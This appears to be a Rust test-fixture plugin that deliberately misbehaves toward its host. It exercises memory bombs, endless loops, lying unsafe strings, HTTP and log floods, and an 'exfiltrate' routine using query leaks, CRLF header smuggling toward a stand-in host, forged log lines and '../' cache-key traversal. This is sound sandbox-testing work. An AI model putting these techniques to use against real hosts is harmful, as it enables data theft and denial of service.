//! What the guests do to their host.

use std::cell::Cell;
use std::hint::black_box;

use weir_plugin::host::http::{Auth, HttpFault, Request};
use weir_plugin::host::{cache, http, log, secrets};
use weir_plugin::{Call, Effect, Fault, Verdict};

use crate::{Behaviour, Settings};

/// What a behaviour changes in the answer.
#[derive(Default)]
pub struct Said {
    pub text: Option<String>,
    pub extra: usize,
    pub less: usize,
}

/// An answer that a behaviour can change.
pub trait Answered: Clone {
    fn any() -> Self;
    fn say(&mut self, text: &str);
}

impl Answered for Verdict {
    fn any() -> Self {
        Self::allow()
    }
    fn say(&mut self, text: &str) {
        self.reason = Some(text.to_string());
    }
}

impl Answered for Effect {
    fn any() -> Self {
        Self::Allow
    }
    fn say(&mut self, _text: &str) {}
}

impl Said {
    fn text(text: impl Into<String>) -> Self {
        Self { text: Some(text.into()), ..Self::default() }
    }

    pub fn change<A: Answered>(mut self, answers: &mut Vec<A>) {
        if let Some(first) = answers.first_mut()
            && let Some(text) = self.text.take()
        {
            // A lying string must not be read here, and is never freed: the host traps first.
            if text.len() > isize::MAX as usize / 4 { std::mem::forget(text) } else { first.say(&text) }
        }
        answers.truncate(answers.len().saturating_sub(self.less));
        answers.extend((0..self.extra).map(|_| A::any()));
    }
}

thread_local! {
    static COUNTER: Cell<u64> = const { Cell::new(0) };
}

pub fn act(settings: &Settings, call: Option<&Call>) -> Result<Said, Fault> {
    let Settings { bytes, count, .. } = *settings;
    match settings.behaviour {
        Behaviour::None | Behaviour::Echo | Behaviour::Fickle => {}
        Behaviour::Loop => spin(u64::MAX),
        Behaviour::Spin => spin(count as u64),
        Behaviour::Recursion => drop(recurse(1)),
        Behaviour::MemoryBomb => bomb(),
        Behaviour::Leak => std::mem::forget(vec![1_u8; bytes]),
        Behaviour::HugeOutput => return Ok(Said::text("x".repeat(bytes))),
        Behaviour::TooMany => return Ok(Said { extra: count, ..Said::default() }),
        Behaviour::TooFew => return Ok(Said { less: 1, ..Said::default() }),
        Behaviour::Trap => trap(),
        Behaviour::Panic => panic!("{}", settings.text),
        Behaviour::InvalidUtf8 => return Ok(Said::text(invalid_utf8())),
        Behaviour::LyingLength => return Err(Fault::internal(lying_length(), "")),
        Behaviour::Unavailable => return Err(Fault::unavailable("made_up", settings.text.clone(), count as u32)),
        Behaviour::Internal => return Err(Fault::internal("made_up", settings.text.clone())),
        Behaviour::Http => return Ok(Said::text(send(settings, &settings.url))),
        Behaviour::HttpFlood => {
            return Ok(Said::text((0..count).map(|_| send(settings, &settings.url)).last().unwrap_or_default()));
        }
        Behaviour::Exfiltrate => return Ok(exfiltrate(settings)),
        Behaviour::Counter => {
            return Ok(Said::text(COUNTER.with(|counter| counter.replace(counter.get() + 1)).to_string()));
        }
        Behaviour::CacheCounter => return Ok(Said::text(cache_counter().to_string())),
        Behaviour::CacheFlood => (0..count).for_each(|i| cache::put(&format!("flood-{i}"), &vec![7; bytes], 60_000)),
        Behaviour::Reveal => return Ok(Said::text(reveal(&settings.secret))),
        Behaviour::Log => log::info(&settings.text, &[("request", call.map_or("", |call| &call.request_id))]),
        Behaviour::LogFlood => (0..count).for_each(|_| log::warn(&"x".repeat(bytes), &[])),
        Behaviour::HostCalls => (0..count).for_each(|_| drop(cache::get("nothing"))),
    }
    Ok(Said::default())
}

fn spin(times: u64) {
    let mut sum = 0_u64;
    for i in 0..times {
        sum = black_box(sum.wrapping_add(i));
    }
}

fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 64]);
    if depth == 0 { 0 } else { recurse(black_box(depth + 1)) + black_box(frame)[3] }
}

fn bomb() {
    let mut held: Vec<Vec<u8>> = Vec::new();
    loop {
        held.push(black_box(vec![1; 1 << 20]));
    }
}

fn trap() {
    #[cfg(target_arch = "wasm32")]
    std::arch::wasm32::unreachable();
}

fn invalid_utf8() -> String {
    // SAFETY: not at all; the host must notice.
    unsafe { String::from_utf8_unchecked(vec![0xff, 0xfe, b'x', 0xc0]) }
}

fn lying_length() -> String {
    // SAFETY: not at all; the host must notice. Equal length and capacity, so that nothing here touches it.
    unsafe { String::from_raw_parts(0x7fff_0000 as *mut u8, 1 << 30, 1 << 30) }
}

fn send(settings: &Settings, url: &str) -> String {
    let headers = settings.headers.iter().map(|(name, value)| (name.clone(), value.clone().into_bytes())).collect();
    let request = Request {
        method: "GET".to_string(),
        url: url.to_string(),
        headers,
        body: Vec::new(),
        timeout_ms: settings.timeout_ms,
    };
    match http::send(&request, &Auth::None) {
        Ok(response) => format!("status {} with {} bytes", response.status, response.body.len()),
        Err(HttpFault::Denied(why)) => format!("denied: {why}"),
        Err(HttpFault::Timeout) => "timeout".to_string(),
        Err(HttpFault::TooLarge) => "too large".to_string(),
        Err(HttpFault::Transport(why)) => format!("transport: {why}"),
    }
}

/// Every way out that a guest can think of.
fn exfiltrate(settings: &Settings) -> Said {
    let loot = &settings.text;
    let by_query = send(settings, &format!("{}?loot={loot}", settings.url));
    let by_header = {
        let mut with_header = settings.clone();
        with_header.headers = vec![("x-loot".to_string(), format!("{loot}\r\nhost: elsewhere.example"))];
        send(&with_header, &settings.url)
    };
    log::error(&format!("\u{1b}[31mloot {loot}\nforged line level=info"), &[("loot\n", loot)]);
    cache::put(&format!("../{loot}"), loot.as_bytes(), u32::MAX);
    Said::text(format!("{loot} query={by_query} header={by_header}"))
}

/// Whether it is every other time that anybody asks, whichever instance.
pub fn is_other_time() -> bool {
    cache_counter() % 2 == 1
}

fn cache_counter() -> u64 {
    let before = cache::get("counter").and_then(|bytes| bytes.try_into().ok()).map_or(0, u64::from_le_bytes);
    cache::put("counter", &(before + 1).to_le_bytes(), 60_000);
    before
}

fn reveal(name: &str) -> String {
    match secrets::open(name) {
        Err(why) => format!("not opened: {why}"),
        Ok(secret) => match secret.reveal() {
            Err(why) => format!("not revealed: {why}"),
            Ok(value) => format!("revealed {}", String::from_utf8_lossy(&value)),
        },
    }
}
